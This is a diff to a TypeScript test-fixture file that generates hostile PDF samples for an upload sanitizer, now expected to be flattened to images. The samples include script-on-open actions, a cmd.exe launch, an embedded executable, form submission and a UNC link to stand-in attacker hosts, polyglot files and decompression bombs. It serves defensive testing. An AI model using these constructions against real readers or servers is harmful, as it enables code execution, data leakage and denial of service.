@@ -31,11 +31,11 @@ function aZip(name = 'evil.html', content = html): Buffer {
 
 type Requirement = 'FILE-1' | 'FILE-2' | 'FILE-4'
 type Sample = { name: string; make: () => Buffer | Promise<Buffer>; code: string; proves: Requirement }
+type Cleaned = Pick<Sample, 'name' | 'make'>
 const refused =
   (code: string, proves: Requirement = 'FILE-4') =>
   (name: string, make: Sample['make']): Sample => ({ name, make, code, proves })
 const wrongType = refused('file_type_not_accepted', 'FILE-1')
-const notPlain = refused('pdf_not_plain')
 const tooComplex = refused('pdf_too_complex')
 const damagedPdf = refused('pdf_damaged')
 const locked = refused('pdf_locked')
@@ -108,95 +108,116 @@ function deflatedBehind(words: string, data: string): Buffer {
   }
   const sum = Buffer.alloc(4)
   sum.writeUInt32BE(b * 65_536 + a)
-  const stored = Buffer.from([0, words.length, 0, 255 - words.length, 255])
-  return join(Buffer.from([0x78, 0x9c]), stored, words, deflateRawSync(text(data)), sum)
+  return join(Buffer.from([0x78, 0x9c]), storedBlock(words), deflateRawSync(text(data)), sum)
+}
+
+/** A piece of compressed data that is not compressed. */
+function storedBlock(data: Buffer | string): Buffer {
+  const head = Buffer.alloc(5)
+  head.writeUInt16LE(data.length, 1)
+  head.writeUInt16LE(0xffff - data.length, 3)
+  return join(head, typeof data === 'string' ? text(data) : data)
 }
 
 const hiddenScript = { catalog: '/OpenAction 4 0 R', objects: [script] }
 
-const pdfsThatAct = [
-  notPlain('a PDF that runs a script when opened', () => aPdf({ catalog: `/OpenAction ${script}` })),
-  notPlain('a PDF with its script spelled in numbers', () =>
-    aPdf({ catalog: `/OpenAction << /S /#4a#61v#61Script /#4AS (app.alert('${evil}')) >>` }),
-  ),
-  notPlain('a PDF with a script by name', () =>
-    aPdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: [script] }),
-  ),
-  notPlain('a PDF with its script in a compressed object', () => aCompressedPdf(hiddenScript)),
-  notPlain('a PDF with its script spelled in numbers in a compressed object', () =>
-    aCompressedPdf({ catalog: `/OpenAction<</S/J#61vaScript/J#53(app.alert('${evil}'))>>` }),
-  ),
-  notPlain('a PDF with its script in a compressed object that does not say what it is', () =>
-    aCompressedPdf({
-      ...hiddenScript,
-      wrap: (data, entries) => aFlateStream(data, entries.replace('/Type/ObjStm', '')),
-    }),
-  ),
-  notPlain('a PDF with its script in a compressed object that seems to end early', () =>
-    aCompressedPdf({
-      ...hiddenScript,
-      wrap: (data, entries) => aStream(deflatedBehind('% endstream endobj\n', data), `/Filter /FlateDecode ${entries}`),
-    }),
-  ),
-  notPlain('a PDF with its script in a string of a compressed object, where the table may point', () =>
-    aCompressedPdf({ objects: [`(${script})`] }),
-  ),
-  notPlain('a PDF with an object of objects that is not compressed', () =>
-    aCompressedPdf({ ...hiddenScript, wrap: aStream }),
-  ),
-  tooComplex('a PDF with its script compressed twice', () =>
-    aCompressedPdf({
-      ...hiddenScript,
-      wrap: (data, entries) => {
-        const twice = deflateSync(deflateSync(text(data)))
-        return aStream(twice, `/Filter [/FlateDecode /FlateDecode] ${entries}`)
-      },
-    }),
-  ),
-  tooComplex('a PDF with its script written in hexadecimal', () =>
-    aCompressedPdf({
-      ...hiddenScript,
-      wrap: (data, entries) => aStream(text(data).toString('hex'), `/Filter /ASCIIHexDecode ${entries}`),
-    }),
-  ),
-  tooComplex('a PDF that names its compression elsewhere', () =>
-    aCompressedPdf({
-      ...hiddenScript,
-      wrap: (data, entries) => aStream(deflateSync(text(data)), `/Filter 9 0 R ${entries}`),
-    }),
-  ),
-  notPlain('a PDF with its script behind a string that looks like a stream', () =>
-    aPdf({ catalog: `/Note (>>\nstream\n) /OpenAction << /S /Rendition#20 /JS (app.alert('${evil}')) >>` }),
-  ),
-  notPlain('a PDF with its script in an object inside the data of another', () =>
-    aPdf({ objects: [aStream(`9 0 obj << /JS (app.alert('${evil}')) >> endobj`)] }),
-  ),
-  notPlain('a PDF that starts a program', () => aPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
-  notPlain('a PDF that starts a program from a page', () =>
-    aPdf({ objects: ['<< /Type /Annot /Subtype /Link /A << /S /La#75nch /Win << /F (cmd.exe) >> >> >>'] }),
-  ),
-  notPlain('a PDF with a file inside', () =>
-    aPdf({
-      catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
-      objects: ['<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>', aFlateStream(evil, '/Type /EmbeddedFile')],
-    }),
-  ),
-  notPlain('a PDF with a file inside that does not say so', () =>
-    aCompressedPdf({ catalog: '/AF[4 0 R]', objects: ['<</F(evil.exe)/EF<</F 9 0 R>>>>'] }),
-  ),
-  notPlain('a PDF with a film', () => aPdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
-  notPlain('a PDF with an XFA form', () =>
-    aPdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [aFlateStream(evil)] }),
-  ),
-  notPlain('a PDF that sends its form away', () =>
-    aPdf({ objects: ['<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'] }),
-  ),
+/** What a reader of PDFs would run, follow, open or send: of the page, a picture is left. */
+const pdfsThatAct: Cleaned[] = [
+  { name: 'a PDF that runs a script when opened', make: () => aPdf({ catalog: `/OpenAction ${script}` }) },
+  {
+    name: 'a PDF with a script by name',
+    make: () => aPdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', objects: [script] }),
+  },
+  { name: 'a PDF with its script in a compressed object', make: () => aCompressedPdf(hiddenScript) },
+  {
+    name: 'a PDF with its script compressed twice',
+    make: () =>
+      aCompressedPdf({
+        ...hiddenScript,
+        wrap: (data, entries) => {
+          const twice = deflateSync(deflateSync(text(data)))
+          return aStream(twice, `/Filter [/FlateDecode /FlateDecode] ${entries}`)
+        },
+      }),
+  },
+  {
+    name: 'a PDF that opens an address when opened',
+    make: () => aPdf({ catalog: `/OpenAction << /S /URI /URI (https://${evil}.example) >>` }),
+  },
+  {
+    name: 'a PDF that opens another file when opened',
+    make: () => aPdf({ catalog: `/OpenAction << /S /GoToR /F (\\\\${evil}\\share\\a.pdf) /D [0 /Fit] >>` }),
+  },
+  { name: 'a PDF that starts a program', make: () => aPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }) },
+  {
+    name: 'a PDF with a file inside',
+    make: () =>
+      aPdf({
+        catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>',
+        objects: ['<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>', aFlateStream(evil, '/Type /EmbeddedFile')],
+      }),
+  },
+  { name: 'a PDF with a film', make: () => aPdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }) },
+  {
+    name: 'a PDF with an XFA form',
+    make: () => aPdf({ catalog: '/AcroForm << /XFA 4 0 R >>', objects: [aFlateStream(evil)] }),
+  },
+  {
+    name: 'a PDF that sends its form away',
+    make: () => aPdf({ objects: [`<< /S /SubmitForm /F << /FS /URL /F (https://${evil}.example) >> >>`] }),
+  },
+  { name: 'a PDF that only forbids printing', make: () => aBankReceipt({ ownerPassword: 'secret', permissions: {} }) },
+  { name: 'a PDF with an archive behind', make: async () => join(await aBankReceipt(), aZip()) },
+  { name: 'a PDF with a web page behind', make: async () => join(await aBankReceipt(), html) },
+  { name: 'a PDF that is also a web page', make: () => aPdf({ header: `%PDF-1.4\n%${html}` }) },
+  { name: 'a PDF that is also an archive', make: () => aPdf({ objects: [aStream(aZip('evil.txt', evil))] }) },
+  {
+    name: 'a PDF of a hundred thousand objects',
+    make: () => aPdf({ objects: Array.from({ length: 100_000 }, () => 'null') }),
+  },
+  { name: 'a PDF of a million names', make: () => aPdf({ objects: ['/A#41 '.repeat(1_000_000)] }) },
+  { name: 'a PDF whose every object never ends', make: () => aPdf({ objects: ['1 0 obj ('.repeat(40_000)] }) },
+  { name: 'a PDF whose page is larger than a town', make: () => aPdf({ page: '/MediaBox [0 0 9e9 9e9]' }) },
+  { name: 'a PDF whose page has no size', make: () => aPdf({ page: '/MediaBox [0 0 0 0]' }) },
+  { name: 'a PDF of 400 streams, each within the one before', make: () => overlappingStreams() },
 ]
+
+/** Each of them says that it holds all that follow, and with the last of them 128 MB: inflated one by one, 50 GB. */
+export function overlappingStreams(count = 400): Buffer {
+  const head = (number: number) => text(`${number} 0 obj\n<< /Length 140000 /Filter /FlateDecode >>\nstream\n\x78\x9c`)
+  let streams = join(head(count + 3), deflateRawSync(Buffer.alloc(128_000_000)), '\nendstream\nendobj\n')
+  for (let number = count + 2; number > 3; number--) {
+    const next = head(number + 1)
+    streams = join(head(number), storedBlock(next), streams.subarray(next.length))
+  }
+  const pdf = aPdf()
+  const table = pdf.indexOf('xref\n')
+  const end = pdf
+    .subarray(table)
+    .toString('latin1')
+    .replace(/startxref\n\d+/, `startxref\n${table + streams.length}`)
+  return join(pdf.subarray(0, table), streams, text(end))
+}
+
+/** Forms that draw the next form ten times each. */
+export function nestedForms(depth = 9): Buffer {
+  const form = (draws: string, forms: string) =>
+    aStream(draws, `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << ${forms} >> >>`)
+  return aPdf({
+    page: '/MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >>',
+    objects: [
+      aStream('/F Do'),
+      ...Array.from({ length: depth }, (_, level) => form('/F Do '.repeat(10), `/F ${6 + level} 0 R`)),
+      form('0 0 1 rg 0 0 612 792 re f '.repeat(10), ''),
+    ],
+  })
+}
+
+const drawing = (content: string | Buffer) =>
+  aPdf({ page: '/MediaBox [0 0 612 792] /Contents 4 0 R', objects: [aFlateStream(content)] })
 
 const otherPdfs = [
   locked('a PDF locked with a password', () => aBankReceipt({ userPassword: 'secret', pdfVersion: '1.7' })),
-  locked('a PDF that only forbids printing', () => aBankReceipt({ ownerPassword: 'secret', permissions: {} })),
-  locked('a PDF with its lock spelled in numbers', () => aPdf({ trailer: '/#45ncrypt 9 0 R' })),
   damagedPdf('a PDF cut in half', async () => {
     const bytes = await aBankReceipt()
     return bytes.subarray(0, bytes.length / 2)
@@ -204,39 +225,35 @@ const otherPdfs = [
   damagedPdf('a PDF without its table', () => text('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n')),
   damagedPdf('a PDF whose table lies outside', () => text('%PDF-1.4\nstartxref\n99999\n%%EOF\n')),
   damagedPdf('a PDF of five bytes', () => text('%PDF-')),
+  damagedPdf('a PDF without a page', () => aPdf({ pages: '<< /Type /Pages /Kids [] /Count 0 >>' })),
+  damagedPdf('a PDF whose page is none', () => aPdf({ pages: '<< /Type /Pages /Kids [9 0 R] /Count 1 >>' })),
+  damagedPdf('a PDF that names its compression elsewhere', () =>
+    aCompressedPdf({ wrap: (data, entries) => aStream(deflateSync(text(data)), `/Filter 9 0 R ${entries}`) }),
+  ),
+  damagedPdf('a PDF with its objects in a stream that seems to end early', () =>
+    aCompressedPdf({
+      wrap: (data, entries) => aStream(deflatedBehind('% endstream endobj\n', data), `/Filter /FlateDecode ${entries}`),
+    }),
+  ),
   wrongType('a PDF with bytes in front', async () => join('\0\0\0 HOSTILE ', await aBankReceipt())),
-  notPlain('a PDF with an archive behind', async () => join(await aBankReceipt(), aZip())),
-  damagedPdf('a PDF with a web page behind', async () => join(await aBankReceipt(), html)),
-  notPlain('a PDF that is also a web page', () => aPdf({ header: `%PDF-1.4\n%${html}` })),
-  notPlain('a PDF that is also an archive', () => aPdf({ objects: [aStream(aZip('evil.txt', evil))] })),
-  refused('pdf_too_many_pages')('a PDF of 101 pages', () => aBankReceipt({ pages: 101 })),
+  refused('pdf_too_many_pages')('a PDF of 11 pages', () => aBankReceipt({ pages: 11 })),
   refused('pdf_too_many_pages')('a PDF that shows one page a million times', () =>
     aPdf({ pages: '<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 1000000 >>' }),
   ),
-  tooComplex('a PDF whose compressed objects grow to 64 MB', () =>
-    aCompressedPdf({ objects: [' '.repeat(64 * 1024 * 1024)] }),
-  ),
-  tooComplex('a PDF whose page grows to 160 MB', () =>
-    aPdf({ objects: [aFlateStream(Buffer.alloc(160_000_000, ' '))] }),
-  ),
-  tooComplex('a PDF of a hundred thousand objects', () =>
-    aPdf({ objects: Array.from({ length: 100_000 }, () => 'null') }),
-  ),
-  tooComplex('a PDF of a million names', () => aPdf({ objects: ['/A#41 '.repeat(1_000_000)] })),
-  tooComplex('a PDF of twenty thousand streams', () =>
-    aPdf({ objects: Array.from({ length: 20_000 }, () => aStream('x', '/Filter /FlateDecode')) }),
-  ),
-  tooComplex('a PDF whose every object never ends', () => aPdf({ objects: ['1 0 obj ('.repeat(40_000)] })),
+  tooComplex('a PDF whose forms draw each other a billion times', () => nestedForms()),
+  tooComplex('a PDF of a million and a half strokes', () => drawing('0 0 m 612 792 l 300 1 l S\n'.repeat(1_500_000))),
+  tooComplex('a PDF whose page grows to 400 MB', () => drawing(Buffer.alloc(400_000_000, ' '))),
 ]
 
-export const refusedSamples: Sample[] = [...wrongTypes, ...brokenImages, ...pdfsThatAct, ...otherPdfs]
+export const refusedSamples: Sample[] = [...wrongTypes, ...brokenImages, ...otherPdfs]
 
 const manyTexts = Array.from({ length: 300 }, () => image.pngChunk('tEXt', `Comment\0${evil}`))
 const textBomb = image.pngChunk('zTXt', join('Comment\0\0', deflateSync(Buffer.alloc(7_000_000, evil))))
 const xmp = `XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>${evil}</x:xmpmeta>`
 
-/** Pictures that carry more than pixels: they come out as pixels only. */
-export const cleanedSamples: Pick<Sample, 'name' | 'make'>[] = [
+/** Files that carry more than pixels: they come out as pixels only. */
+export const cleanedSamples: Cleaned[] = [
+  ...pdfsThatAct,
   { name: 'a phone photo that says where it was taken', make: () => image.aPhonePhoto() },
   { name: 'a JPEG that is also an archive', make: async () => join(await image.aPhoto(), aZip()) },
   { name: 'a JPEG with a web page behind', make: async () => join(await image.aPhoto(), html) },
